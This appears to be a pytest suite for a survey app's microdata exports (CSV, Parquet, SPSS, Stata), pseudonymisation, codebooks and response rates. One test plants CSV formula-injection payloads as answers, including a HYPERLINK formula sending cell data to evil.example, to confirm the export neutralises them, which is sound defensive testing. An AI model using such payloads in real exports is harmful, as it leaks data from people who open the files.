"""Microdata exports (CSV, Parquet, .sav, .dta), codebooks and response rates."""

from __future__ import annotations

import io
import tempfile

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pyreadstat
import pytest
from sqlalchemy import select

from survey_app.analysis.models import ResponseWeight
from survey_app.analysis.services.microdata import pseudonym
from survey_app.fieldwork.models import FrameUnit
from survey_app.respond.models import Response

from ..api_world import bearer, build, spec_with_draw

IDENTIFYING_COLUMNS = {"phone", "full_name", "name", "email", "token", "dedupe_hash", "ip_hash", "contact"}


@pytest.fixture
def computed(app, client):
    world = build(app)
    spec = spec_with_draw(world, replicates={"method": "jkn", "seed": 5})
    scheme = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/", json={"name": "main", "spec": spec}, headers=bearer(world.token))
    run = client.post(f"/api/v1/surveys/{world.project_id}/weighting-schemes/{scheme.json['id']}/versions/1/compute", headers=bearer(world.token))
    assert run.status_code == 201, run.json
    return world, scheme.json["id"], run.json["id"]


def _download(client, world, token=None, **params):
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return client.get(f"/api/v1/surveys/{world.project_id}/microdata?{query}", headers=bearer(token or world.token))


def _read(kind, data):
    if kind == "csv":
        return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"pid": str, "county": str, "stratum": str}), None
    if kind == "parquet":
        table = pq.read_table(io.BytesIO(data))
        return table.to_pandas(), table.schema.metadata
    with tempfile.NamedTemporaryFile(suffix=f".{kind}") as handle:
        handle.write(data)
        handle.flush()
        reader = pyreadstat.read_sav if kind == "sav" else pyreadstat.read_dta
        return reader(handle.name)


def test_every_format_reads_back_the_same_rows_weights_and_labels(client, session, computed):
    world, scheme_id, run_id = computed
    stored = dict(session.execute(select(ResponseWeight.response_id, ResponseWeight.weight).where(ResponseWeight.run_id == run_id)).all())
    expected_pids = {pseudonym("test-secret-key", world.project_id, rid): w for rid, w in stored.items()}
    frames = {}
    for kind in ("csv", "parquet", "sav", "dta"):
        response = _download(client, world, scheme=scheme_id, format=kind)
        assert response.status_code == 200, (kind, response.data[:300])
        assert f"microdata-scheme{scheme_id}v1.{kind}" in response.headers["Content-Disposition"]
        frame, meta = _read(kind, response.data)
        frames[kind] = (frame, meta)
        assert dict(zip(frame["pid"], frame["weight"], strict=True)) == pytest.approx(expected_pids, rel=1e-9)
        assert {f"rep_{i}" for i in range(1, len(stored) + 1)} <= set(frame.columns)  # JKn: one replicate per PSU
        assert not IDENTIFYING_COLUMNS & set(frame.columns)
    reference = frames["csv"][0].set_index("pid")
    for kind in ("parquet", "sav", "dta"):
        other = frames[kind][0].set_index("pid").loc[reference.index]
        for column in ("i01", "overall", "income", "relation__parent", "stratum", "county", "suggestion"):
            left, right = reference[column], other[column]
            if pd.api.types.is_numeric_dtype(left):
                assert np.allclose(left.astype(float), right.astype(float), equal_nan=True), (kind, column)
            else:
                assert left.fillna("").astype(str).tolist() == right.fillna("").astype(str).tolist(), (kind, column)
    sav_meta = frames["sav"][1]
    assert sav_meta.column_names_to_labels["i01"] == "学位供给"
    assert sav_meta.variable_value_labels["i01"][5.0] == "非常满意"
    assert sav_meta.variable_value_labels["county"]["c01"] == "东湖县"
    dta_meta = frames["dta"][1]
    assert dta_meta.variable_value_labels["overall"][1] == "非常不满意"
    assert "学位供给" in dta_meta.column_names_to_labels["i01"]
    assert b"strata.value_labels" in frames["parquet"][1]
    english = _download(client, world, scheme=scheme_id, format="sav", language="en")
    frame, meta = _read("sav", english.data)
    assert meta.column_names_to_labels["i01"] == "Kindergarten places"


def test_microdata_never_contains_identifying_values(client, session, computed):
    world, scheme_id, _ = computed
    body = _download(client, world, scheme=scheme_id, format="csv").data.decode("utf-8-sig")
    for answers, in session.execute(select(Response.answers)).all():
        assert answers["phone"] not in body
        assert answers["full_name"] not in body
    for contact, in session.execute(select(FrameUnit.contact)).all():
        assert contact["phone"] not in body and contact["name"] not in body
    header = body.splitlines()[0].split(",")
    assert header[:2] == ["pid", "questionnaire_version"]
    assert "i01__missing" in header  # "don't know" reasons are kept apart


def test_csv_keeps_formula_looking_answers_as_text_and_numbers_as_numbers(client, session, computed):
    world, scheme_id, _ = computed
    typed = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tcmd", "'quoted"]
    responses = session.scalars(select(Response).where(Response.id.in_(world.complete_ids)).order_by(Response.id)).all()[:len(typed)]
    for response, text in zip(responses, typed, strict=True):
        response.answers = {**response.answers, "suggestion": text, "income": -1500.5}
    session.commit()
    frame = _read("csv", _download(client, world, scheme=scheme_id, format="csv").data)[0].set_index("pid")
    for response, text in zip(responses, typed, strict=True):
        row = frame.loc[pseudonym("test-secret-key", world.project_id, response.id)]
        assert row["suggestion"] == "'" + text and row["suggestion"].removeprefix("'") == text
        assert row["income"] == -1500.5
    assert pd.api.types.is_float_dtype(frame["income"]) and pd.api.types.is_float_dtype(frame["weight"])


def test_pseudonymous_ids_are_stable_and_unlinkable(client, computed):
    world, scheme_id, _ = computed
    first = _read("csv", _download(client, world, scheme=scheme_id, format="csv").data)[0]["pid"].tolist()
    second = _read("csv", _download(client, world, format="csv").data)[0]
    assert set(first) <= set(second["pid"])
    assert "weight" not in second.columns  # no scheme: answers only, all complete responses
    assert len(second) == len(world.complete_ids)
    assert pseudonym("k", 1, 5) != pseudonym("k", 2, 5) != pseudonym("other", 1, 5)


def test_microdata_scope_and_survey_checks(client, computed):
    world, scheme_id, _ = computed
    assert _download(client, world, token=world.read_only_token, format="csv").status_code == 403
    assert _download(client, world, token=world.other_token, format="csv").status_code == 403
    assert client.get(f"/api/v1/surveys/{world.project_id}/microdata").status_code == 401
    bad = _download(client, world, format="xlsx")
    assert bad.status_code == 422 and "format" in str(bad.json["errors"])
    assert _download(client, world, format="csv", language="fr").status_code == 422


def test_codebook_has_labels_value_labels_missing_codes_and_skip_logic(client, computed):
    world, _, _ = computed
    versions = client.get(f"/api/v1/surveys/{world.project_id}/questionnaire-versions", headers=bearer(world.token))
    assert versions.status_code == 200
    assert versions.json[0]["number"] == 1 and versions.json[0]["responses"] > 0
    book = client.get(f"/api/v1/surveys/{world.project_id}/questionnaire-versions/1/codebook", headers=bearer(world.token)).json
    variables = {v["name"]: v for v in book["variables"]}
    assert book["languages"] == ["zh_CN", "en"]
    assert variables["i01"]["kind"] == "numeric" and variables["i01"]["labels"] == {"zh_CN": "学位供给", "en": "Kindergarten places"}
    assert variables["i01"]["missing_codes"] == ["dk"]
    assert {"code": "dk", "labels": {"zh_CN": "不了解", "en": "Don't know"}, "missing": True} in variables["i01"]["value_labels"]
    assert variables["county"]["kind"] == "categorical"
    assert variables["suggestion"]["relevant"] == "${overall} <= 2"
    assert variables["phone"]["identifying"] is True and variables["full_name"]["identifying"] is True
    assert variables["suggestion"]["identifying"] is False
    assert {"relation__parent", "relation__student", "relation__none"} <= set(variables)
    missing = client.get(f"/api/v1/surveys/{world.project_id}/questionnaire-versions/9/codebook", headers=bearer(world.token))
    assert missing.status_code == 404 and missing.json["error"] == "not_found"


def test_response_rates_per_stratum(client, computed):
    world, _, _ = computed
    report = client.get(f"/api/v1/surveys/{world.project_id}/response-rates", headers=bearer(world.token)).json
    overall = report["overall"]
    assert overall["sampled"] == 240
    assert overall["complete"] == len(world.complete_ids)
    assert overall["rr1"] == pytest.approx(overall["complete"] / 240)
    assert overall["rr2"] == pytest.approx((overall["complete"] + overall["partial"]) / 240)
    assert [s["stratum"] for s in report["strata"]] == ["c01", "c02", "c03"]
    assert [s["sampled"] for s in report["strata"]] == [60, 80, 100]
    for s in report["strata"]:
        assert s["complete"] + s["partial"] + s["refused"] + s["not_reached"] + s["no_response"] == s["sampled"]
